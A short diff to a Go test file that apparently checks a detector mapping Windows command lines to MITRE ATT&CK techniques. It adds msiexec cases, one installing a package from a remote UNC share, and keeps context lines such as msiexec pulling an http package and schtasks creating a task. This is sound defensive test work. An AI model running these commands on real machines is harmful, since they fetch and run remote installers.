@@ -270,6 +270,8 @@ func TestBuiltinTechniques(t *testing.T) {
 		{"schtasks.exe", "schtasks /query", ""},
 		{"schtasks.exe", "schtasks /create /tn a /tr b", "T1053.005"},
 		{"msiexec.exe", "msiexec /q /i http://a/b.png", "T1105 T1218.007"},
+		{"msiexec.exe", `msiexec /i \\198.51.100.7\s\b.msi /qn`, "T1105 T1218.007"},
+		{"msiexec.exe", `msiexec /i C:\app\setup.msi /qn`, "T1218.007"},
 		{"cscript.exe", `cscript C:\a.vbs`, "T1059.005"},
 		{"csc.exe", `csc @"C:\Windows\Microsoft.NET\Temporary ASP.NET Files\a.cmdline"`, ""},
 		{"conhost.exe", "conhost.exe 0xffffffff -ForceV1", ""},
